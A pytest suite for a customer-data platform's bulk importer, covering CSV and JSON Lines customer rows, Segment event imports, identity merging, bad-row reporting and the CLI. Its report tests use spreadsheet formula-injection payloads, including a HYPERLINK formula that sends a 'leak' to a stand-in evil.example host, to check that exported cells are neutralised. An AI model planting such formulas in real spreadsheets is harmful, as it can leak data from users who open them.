"""Bulk import of customers (CSV, JSON Lines) and events (JSON Lines of Segment calls)."""

from __future__ import annotations

import csv
import os
import time
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from typer.testing import CliRunner

from tests.database import empty_database
from trato import tables
from trato.core.clock import utcnow
from trato.core.csvsafe import safe_cell, write_csv
from trato.core.db import unit_of_work
from trato.core.errors import TratoError
from trato.customers import service as customers
from trato.customers.models import Customer, CustomerMerge, Event, Identity
from trato.ingest import importer, service as ingest
from trato.ingest.importer import import_customers, import_events, write_report
from trato.ingest.models import Source

FIXTURES = Path(__file__).parent.parent / "fixtures" / "import"


def write(tmp_path: Path, name: str, content: str | bytes) -> Path:
    path = tmp_path / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def lookup(api: Any, **identity: str) -> dict[str, Any]:
    response = api.get("/api/v1/customers/lookup", params=identity)
    assert response.status_code == 200, response.text
    return response.json()


def identities(view: dict[str, Any]) -> set[tuple[str, str]]:
    return {(i["kind"], i["value"]) for i in view["identities"]}


def rejections(outcome: importer.ImportOutcome) -> list[tuple[int, str]]:
    return [(row.line, row.code) for row in outcome.rejected]


def canonical(value: Any) -> bytes:
    return orjson.dumps(value, option=orjson.OPT_SORT_KEYS)


def snapshot() -> dict[str, Any]:
    """Every table's row count and the content an import writes, to compare two moments."""
    with unit_of_work() as s:
        counts = {t.name: s.scalar(select(func.count()).select_from(t)) for t in tables.metadata.sorted_tables}
        profiles = sorted(
            (c.id, canonical(c.traits), canonical(c.trait_times), c.merged_into_id, c.event_count, c.updated_at)
            for c in s.scalars(select(Customer))
        )
        links = sorted(tuple(row) for row in s.execute(select(Identity.kind, Identity.value, Identity.customer_id)))
        events = sorted(
            tuple(row)
            for row in s.execute(select(Event.source_id, Event.message_id, Event.customer_id, Event.occurred_at))
        )
    return {"counts": counts, "profiles": profiles, "identities": links, "events": events}


# -- customers -------------------------------------------------------------------------------


def test_csv_customers_land_with_identities_and_typed_traits(api):
    outcome = import_customers(FIXTURES / "customers.csv", progress=None)
    assert (outcome.read, outcome.stored, outcome.unchanged, outcome.rejected) == (3, 3, 0, [])

    ana = lookup(api, email="ana.garcia@example.com")
    person = ana["customer"]
    assert (person["first_name"], person["last_name"], person["country"]) == ("Ana", "García", "ES")
    assert person["birthday"] == "1985-04-12"
    assert (person["timezone"], person["locale"]) == ("Europe/Madrid", "es-ES")
    assert person["phone"] == "+34612345678"  # a national number, read in the row's country
    assert person["traits"]["plan"] == "gold"
    assert identities(ana) == {
        ("user_id", "u-100"), ("email", "ana.garcia@example.com"), ("phone", "+34612345678"),
        ("crm_id", "CRM-1"), ("social:instagram", "ana.garcia"),
    }
    assert {i["linked_via"] for i in ana["identities"]} == {"import"}

    bob = lookup(api, user_id="u-101")["customer"]
    assert (bob["last_name"], bob["phone"]) == ("Smith, Jr.", "+16502530000")
    carla = lookup(api, email="carla@example.com")
    assert carla["customer"]["country"] == "MX"
    assert identities(carla) == {("email", "carla@example.com")}


def test_jsonl_customers_in_both_shapes(api):
    outcome = import_customers(FIXTURES / "customers.jsonl", progress=None)
    assert (outcome.read, outcome.stored, outcome.rejected) == (3, 3, [])

    dora = lookup(api, user_id="u-200")
    assert identities(dora) == {
        ("user_id", "u-200"), ("email", "dora@example.com"), ("email", "dora.work@example.com"),
    }
    traits = dora["customer"]["traits"]
    assert (traits["logins"], traits["vip"], traits["address"]) == (5, True, {"city": "Sevilla"})
    assert dora["customer"]["email"] == "dora@example.com"

    # A Segment identify call, read as the tracking API reads it: e-mail and phone from traits.
    eli = lookup(api, email="eli@example.com")
    assert ("user_id", "u-201") in identities(eli)
    assert eli["customer"]["phone"] == "+447911123456"
    assert eli["customer"]["first_name"] == "Eli"

    perez = lookup(api, kind="crm_id", value="CRM-9")["customer"]
    assert perez["last_name"] == "Pérez"
    assert "plan" not in perez["traits"]  # null is no value: an import never erases


def test_csv_from_a_spanish_spreadsheet_semicolons_and_byte_order_mark(tmp_path, api):
    path = write(tmp_path, "clientes.csv", "\ufeffEmail;Nombre;first_name\nluis@example.com;Luis Ruiz;Luis\n".encode())
    outcome = import_customers(path, progress=None)
    assert (outcome.stored, outcome.rejected) == (1, [])
    luis = lookup(api, email="luis@example.com")["customer"]
    assert (luis["first_name"], luis["traits"]["Nombre"]) == ("Luis", "Luis Ruiz")


def test_a_row_with_the_email_of_a_known_customer_updates_that_customer(tmp_path, api):
    with unit_of_work() as s:
        known = customers.create_customer(
            s, traits={"first_name": "Ana", "plan": "free"}, identities=[("email", "ana@example.com")], actor="test"
        ).id
    path = write(tmp_path, "update.csv", "email,plan,last_name\nANA@Example.com,gold,Ruiz\n")
    # A file written after the profile: the file system's clock is coarser than ours, so say so.
    later = time.time() + 1
    os.utime(path, (later, later))
    outcome = import_customers(path, progress=None)
    assert (outcome.stored, outcome.unchanged) == (1, 0)

    view = lookup(api, email="ana@example.com")["customer"]
    assert view["id"] == known
    assert (view["first_name"], view["last_name"], view["traits"]["plan"]) == ("Ana", "Ruiz", "gold")
    with unit_of_work() as s:
        assert s.scalar(select(func.count()).select_from(Customer)) == 1


@pytest.mark.parametrize("one_file", [True, False], ids=["same file", "two imports"])
def test_two_user_ids_sharing_an_email_stay_two_people(tmp_path, api, one_file):
    first, second = "u-1,shared@example.com,Uno\n", "u-2,shared@example.com,Dos\n"
    header = "user_id,email,first_name\n"
    if one_file:
        outcome = import_customers(write(tmp_path, "both.csv", header + first + second), progress=None)
        assert (outcome.stored, outcome.rejected) == (2, [])
    else:
        assert import_customers(write(tmp_path, "a.csv", header + first), progress=None).stored == 1
        assert import_customers(write(tmp_path, "b.csv", header + second), progress=None).stored == 1

    uno, dos = lookup(api, user_id="u-1"), lookup(api, user_id="u-2")
    assert uno["customer"]["id"] != dos["customer"]["id"]
    # Rule 3: the e-mail stays with the profile that owns it; the other user id gets a profile of
    # its own and the refused merge is logged on it.
    assert lookup(api, email="shared@example.com")["customer"]["id"] == uno["customer"]["id"]
    assert identities(uno) == {("user_id", "u-1"), ("email", "shared@example.com")}
    assert identities(dos) == {("user_id", "u-2")}
    assert dos["customer"]["first_name"] == "Dos"
    refused = [m for m in dos["merges"] if m["status"] == "refused"]
    assert len(refused) == 1
    assert refused[0]["merged_id"] == uno["customer"]["id"]
    assert refused[0]["trigger_identity"] == "email:shared@example.com"


def test_rows_of_one_person_across_chunks_make_one_profile(tmp_path, api, monkeypatch):
    monkeypatch.setattr(importer, "CHUNK_ROWS", 2)
    rows = [
        "anon-1,,,Ana,", "anon-1,ana@example.com,,,", ",ana@example.com,u-1,,gold",
        ",,u-1,,platinum", "anon-2,,,Bea,",
    ]
    path = write(tmp_path, "chunks.csv", "anonymous_id,email,user_id,first_name,plan\n" + "\n".join(rows) + "\n")
    outcome = import_customers(path, progress=None)
    assert (outcome.read, outcome.stored, outcome.rejected) == (5, 5, [])
    ana = lookup(api, user_id="u-1")
    assert identities(ana) == {("anonymous_id", "anon-1"), ("email", "ana@example.com"), ("user_id", "u-1")}
    assert (ana["customer"]["first_name"], ana["customer"]["traits"]["plan"]) == ("Ana", "platinum")

    again = import_customers(path, progress=None)
    assert (again.stored, again.unchanged) == (0, 5)


# -- events ----------------------------------------------------------------------------------


def test_events_go_through_the_tracking_path_under_their_source(api):
    outcome = import_events(FIXTURES / "events.jsonl", source_name="crm export", progress=None)
    assert (outcome.read, outcome.stored, outcome.unchanged, outcome.rejected) == (6, 6, 0, [])

    fran = lookup(api, user_id="u-300")
    assert identities(fran) >= {
        ("user_id", "u-300"), ("anonymous_id", "anon-300"), ("email", "fran@example.com"),
        ("anonymous_id", "anon-old-300"),
    }
    assert fran["customer"]["first_name"] == "Fran"
    assert fran["customer"]["computed"]["event_count"] == 6
    assert fran["customer"]["computed"]["lifetime_value"] == {"EUR": 25.5}
    with unit_of_work() as s:
        source = s.scalar(select(Source).where(Source.name == "crm export"))
        assert source is not None
        events = {e.kind: e for e in s.scalars(select(Event).where(Event.source_id == source.id))}
    assert events["identify"].message_id == "crm-1"
    assert all(e.message_id.startswith("imp-") for kind, e in events.items() if kind != "identify")
    # Taken as written: sentAt is not a receive time, so no clock-skew correction.
    assert events["purchase"].occurred_at.isoformat() == "2026-04-02T10:00:00+00:00"
    # receivedAt stands in for a missing timestamp.
    assert events["screen"].occurred_at.isoformat() == "2026-04-04T10:00:00+00:00"


def test_events_join_an_existing_source(write_key):
    before = snapshot()["counts"]["sources"]
    outcome = import_events(FIXTURES / "events.jsonl", source_name="website", progress=None)
    assert outcome.stored == 6
    with unit_of_work() as s:
        assert s.scalar(select(func.count()).select_from(Source)) == before
        channels = set(s.scalars(select(Event.channel)))
    assert "web" in channels  # the source's default channel applies


def test_the_same_call_from_two_sources_is_two_events(database_url):
    assert import_events(FIXTURES / "events.jsonl", source_name="one", progress=None).stored == 6
    assert import_events(FIXTURES / "events.jsonl", source_name="two", progress=None).stored == 6


# -- re-runs -----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["customers.csv", "customers.jsonl", "events.jsonl"])
def test_importing_a_file_again_changes_nothing(name, database_url):
    run = (lambda: import_events(FIXTURES / name, source_name="import", progress=None)) if name == "events.jsonl" \
        else (lambda: import_customers(FIXTURES / name, progress=None))
    first = run()
    assert first.stored == first.read > 0
    before = snapshot()
    second = run()
    assert (second.read, second.stored, second.unchanged, second.rejected) == (first.read, 0, first.read, [])
    assert snapshot() == before


ROWS = st.lists(
    st.tuples(
        st.sampled_from(["", "u1", "u2", "u3"]),
        st.sampled_from(["", "e1@example.com", "e2@example.com", "e3@example.com"]),
        st.sampled_from(["", "+34612345671", "+34612345672"]),
        st.sampled_from(["", "a1", "a2"]),
        st.sampled_from(["", "gold", "silver"]),
        st.sampled_from(["", "Ana", "Bea"]),
    ).filter(lambda row: any(row[:4])),
    min_size=1, max_size=12,
)


def wipe() -> None:
    empty_database()


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=ROWS, chunk=st.sampled_from([1, 2, 5, 1000]))
def test_any_file_imported_again_changes_nothing(tmp_path, database_url, monkeypatch, rows, chunk):
    """Whatever the rows link, merge or refuse, and however they are chunked, a re-run is a no-op."""
    wipe()
    monkeypatch.setattr(importer, "CHUNK_ROWS", chunk)
    lines = ["user_id,email,phone,anonymous_id,plan,first_name"] + [",".join(row) for row in rows]
    path = write(tmp_path, "people.csv", "\n".join(lines) + "\n")
    first = import_customers(path, progress=None)
    assert first.rejected == [] and first.stored + first.unchanged == len(rows)
    before = snapshot()
    second = import_customers(path, progress=None)
    assert (second.stored, second.unchanged) == (0, len(rows))
    assert snapshot() == before


# -- bad rows ----------------------------------------------------------------------------------


def test_bad_csv_rows_are_reported_by_line_and_the_good_ones_land(tmp_path, api):
    content = (
        b"user_id,email,phone,birthday,note\n"            # 1
        b"u-1,uno@example.com,,1990-01-31,ok\n"            # 2
        b"u-2,dos@example.com,12,,short phone\n"           # 3
        b"u-3,not an email,,,\n"                           # 4
        b"u-4,,,31/31/1990,\n"                             # 5
        b",,,,no identity\n"                               # 6
        b"\n"                                              # 7 blank: skipped
        b",,,,\n"                                          # 8 empty cells only: skipped
        b'u-5,cinco@example.com,,,"two\nlines"\n'          # 9-10
        b"u-6,seis@example.com,,,one,cell,too many\n"      # 11
        b"u-7,siete@example.com,,,caf\xe9\n"               # 12 Latin-1, not UTF-8
        b"u-8,ocho@example.com,+34 612 345 678,,ok\n"      # 13
    )
    outcome = import_customers(write(tmp_path, "bad.csv", content), progress=None)
    assert rejections(outcome) == [
        (3, "invalid_phone"), (4, "invalid_email"), (5, "invalid_trait"), (6, "missing_identity"),
        (11, "invalid_row"), (12, "invalid_encoding"),
    ]
    assert (outcome.read, outcome.stored) == (9, 3)
    assert outcome.rejected[0].row == "u-2,dos@example.com,12,,short phone"
    assert "12" in outcome.rejected[0].message
    assert "birthday" in outcome.rejected[2].message
    assert "user_id, email, phone" in outcome.rejected[3].message
    assert lookup(api, user_id="u-1")["customer"]["birthday"] == "1990-01-31"
    assert lookup(api, user_id="u-5")["customer"]["traits"]["note"] == "two\nlines"
    assert lookup(api, phone="+34612345678")["customer"]["traits"]["note"] == "ok"


def test_bad_jsonl_customer_rows(tmp_path, api):
    lines = [
        '{"identities": {"email": "first@example.com"}}',
        "nope",
        '{"identities": {"phone": "12"}}',
        '{"traits": {"first_name": "Nobody"}}',
        '{"identities": {"email": "x@example.com"}, "traits": {"birthday": "yesterday"}}',
        '{"type": "track", "userId": "u-9", "event": "Signed Up"}',
        '{"identities": {"user_id": "u-9"}, "trait": {"plan": "gold"}}',
        '{"identities": {"user_id": ["u-9", "u-10"]}}',
        orjson.dumps({"identities": {"email": "big@example.com"}, "traits": {"bio": "x" * 20_000}}).decode(),
        '{"identities": {"email": "x@example.com"}, "timestamp": "last week"}',
        "[1, 2]",
        '{"identities": {"email": "last@example.com"}, "traits": {"plan": "gold"}}',
    ]
    outcome = import_customers(write(tmp_path, "bad.jsonl", "\n".join(lines) + "\n"), progress=None)
    assert rejections(outcome) == [
        (2, "invalid_json"), (3, "invalid_phone"), (4, "missing_identity"), (5, "invalid_trait"),
        (6, "invalid_event"), (7, "invalid_row"), (8, "conflicting_identities"), (9, "invalid_trait"),
        (10, "invalid_row"), (11, "invalid_row"),
    ]
    assert (outcome.read, outcome.stored) == (12, 2)
    assert "trato import events" in outcome.rejected[4].message
    assert "'trait'" in outcome.rejected[5].message
    assert lookup(api, email="last@example.com")["customer"]["traits"]["plan"] == "gold"


def test_bad_event_lines(tmp_path, api):
    lines = [
        '{"type": "track", "userId": "u-1", "event": "First", "messageId": "m-1"}',
        "{not json",
        '{"type": "explode", "userId": "u-1"}',
        "[1, 2]",
        "",
        orjson.dumps({"type": "track", "userId": "u-1", "event": "Big", "properties": {"x": "y" * 40_000}}).decode(),
        orjson.dumps({"type": "track", "userId": "u-1", "event": "Huge", "properties": {"x": "y" * 200_000}}).decode(),
        '{"type": "track", "event": "Nobody"}',
        '{"type": "identify", "userId": "u-1", "traits": {"email": "not-an-email"}}',
        '{"type": "track", "userId": "u-1", "event": "Last", "messageId": "m-2"}',
    ]
    outcome = import_events(write(tmp_path, "bad.jsonl", "\n".join(lines) + "\n"), source_name="import", progress=None)
    assert rejections(outcome) == [
        (2, "invalid_json"), (3, "invalid_event"), (4, "invalid_event"), (6, "event_too_large"),
        (7, "event_too_large"), (8, "invalid_event"), (9, "invalid_email"),
    ]
    assert (outcome.read, outcome.stored) == (9, 2)
    assert "explode" in outcome.rejected[1].message
    assert lookup(api, user_id="u-1")["customer"]["computed"]["event_count"] == 2


def test_a_row_that_fails_to_write_costs_only_itself(tmp_path, api, monkeypatch):
    real = importer._store_customers

    def failing_on_line_3(session, rows, **options):  # type: ignore[no-untyped-def]
        if any(row.line == 3 for row in rows):
            raise RuntimeError("the disk is full")
        return real(session, rows, **options)

    monkeypatch.setattr(importer, "_store_customers", failing_on_line_3)
    path = write(tmp_path, "three.csv", "email\none@example.com\ntwo@example.com\nthree@example.com\n")
    outcome = import_customers(path, progress=None)
    assert (outcome.stored, rejections(outcome)) == (2, [(3, "write_failed")])
    assert lookup(api, email="three@example.com")["customer"]["id"]


# -- whole-file errors -------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["people.xlsx", "people.json", "people"])
def test_other_file_types_are_refused(tmp_path, name, database_url):
    path = write(tmp_path, name, "email\nana@example.com\n")
    with pytest.raises(TratoError) as caught:
        import_customers(path, progress=None)
    assert caught.value.code == "unsupported_file_type"
    assert ".csv" in caught.value.message


def test_events_come_only_from_json_lines(tmp_path, database_url):
    with pytest.raises(TratoError) as caught:
        import_events(write(tmp_path, "events.csv", "type\ntrack\n"), source_name="import", progress=None)
    assert caught.value.code == "unsupported_file_type"


def test_a_csv_without_an_identity_column_is_refused_naming_the_accepted_ones(tmp_path, database_url):
    with pytest.raises(TratoError) as caught:
        import_customers(write(tmp_path, "x.csv", "name,mail\nAna,ana@example.com\n"), progress=None)
    assert caught.value.code == "no_identity_column"
    accepted = ("user_id", "email", "phone", "anonymous_id", "device_token", "social:<network>", "identity:<kind>")
    assert all(name in caught.value.message for name in accepted)
    assert "name, mail" in caught.value.message


@pytest.mark.parametrize(("header", "code"), [
    ("email,Email\n", "duplicate_column"),
    ("email,identity:Not Valid\n", "invalid_column"),
    ("\n\n", "empty_file"),
    ("email,pa\xeds\n".encode("latin-1"), "invalid_encoding"),
])
def test_bad_headers(tmp_path, database_url, header, code):
    with pytest.raises(TratoError) as caught:
        import_customers(write(tmp_path, "x.csv", header), progress=None)
    assert caught.value.code == code


# -- the report ----------------------------------------------------------------------------------


@pytest.mark.parametrize(("value", "expected"), [
    ("=HYPERLINK(\"http://evil.example\",\"click\")", "'=HYPERLINK(\"http://evil.example\",\"click\")"),
    ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    (-2, "'-2"), ("Ana", "Ana"), ("ana@example.com", "ana@example.com"), ("1+1", "1+1"), (None, ""), (7, "7"),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_the_report_cannot_run_formulas_in_a_spreadsheet(tmp_path, database_url):
    cells = ['=HYPERLINK("http://evil.example/?leak")', "+1 555", "-2", "@SUM(A1:A9)"]
    content = "email;first_name\n" + "".join(f"{cell};x\n" for cell in cells)
    outcome = import_customers(write(tmp_path, "evil.csv", content), progress=None)
    assert rejections(outcome) == [(line, "invalid_email") for line in (2, 3, 4, 5)]

    report = tmp_path / "report.csv"
    write_report(outcome.rejected, report)
    with report.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["line", "code", "message", "row"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert [row[3] for row in rows[1:]] == [
        "'=HYPERLINK(\"http://evil.example/?leak\");x", "'+1 555;x", "'-2;x", "'@SUM(A1:A9);x",
    ]


def test_write_csv_counts_rows_and_escapes_the_header(tmp_path):
    path = tmp_path / "out.csv"
    assert write_csv(path, ["=a", "b"], [["+1", "ok"], ["x", "@y"]]) == 2
    assert path.read_text(encoding="utf-8-sig").splitlines() == ["'=a,b", "'+1,ok", "x,'@y"]


# -- the command -----------------------------------------------------------------------------


def test_cli_imports_customers_and_prints_the_summary(tmp_path, database_url):
    from trato.cli import app

    result = CliRunner().invoke(app, ["import", "customers", str(FIXTURES / "customers.csv")])
    assert result.exit_code == 0, result.output
    assert "read 3 rows: 3 stored, 0 already there, 0 rejected" in result.output

    result = CliRunner().invoke(app, ["import", "customers", str(FIXTURES / "customers.csv")])
    assert result.exit_code == 0, result.output
    assert "read 3 rows: 0 stored, 3 already there, 0 rejected" in result.output


def test_cli_exits_1_on_rejected_rows_and_writes_the_report(tmp_path, database_url):
    from trato.cli import app

    lines = '{"type": "track", "userId": "u", "event": "Ok"}\n{"type": "[bold]nope[/]", "userId": "u"}\n'
    path = write(tmp_path, "mixed.jsonl", lines)
    report = tmp_path / "rejected.csv"
    result = CliRunner().invoke(app, ["import", "events", str(path), "--source", "shop", "--report", str(report)])
    assert result.exit_code == 1, result.output
    assert "read 2 rows: 1 stored, 0 already there, 1 rejected" in result.output
    assert "line 2: invalid_event" in result.output
    assert "[bold]nope[/]" in result.output  # the file's text is shown, not read as markup
    with report.open(encoding="utf-8-sig", newline="") as handle:
        assert [row[:2] for row in csv.reader(handle)] == [["line", "code"], ["2", "invalid_event"]]
    with unit_of_work() as s:
        assert s.scalar(select(Source.name).where(Source.name == "shop")) == "shop"
    assert "wk_" not in result.output  # the new source's write key is not shown


def test_cli_refuses_a_file_of_the_wrong_type(tmp_path, database_url):
    from trato.cli import app

    result = CliRunner().invoke(app, ["import", "customers", str(write(tmp_path, "people.xlsx", "x"))])
    assert result.exit_code == 1
    assert isinstance(result.exception, TratoError)
    assert result.exception.code == "unsupported_file_type"


def test_tracked_events_and_imported_customers_meet(tmp_path, api):
    """A customer imported from a CRM and the events its website sent are one person."""
    with unit_of_work() as s:
        source, _ = ingest.create_source(s, name="web", actor="test")
    received = utcnow()
    good, _ = ingest.parse_calls(
        [{"type": "track", "userId": "u-77", "event": "Viewed", "messageId": "w-1"}], call_type=None,
        received_at=received,
    )
    with unit_of_work() as s:
        ingest.ingest(s, source=source, events=good, received_at=received)
    path = write(tmp_path, "crm.csv", "user_id,email,first_name\nu-77,sara@example.com,Sara\n")
    outcome = import_customers(path, progress=None)
    assert outcome.stored == 1
    sara = lookup(api, email="sara@example.com")
    assert (sara["customer"]["first_name"], sara["customer"]["computed"]["event_count"]) == ("Sara", 1)
    with unit_of_work() as s:
        assert s.scalar(select(func.count()).select_from(CustomerMerge)) == 0
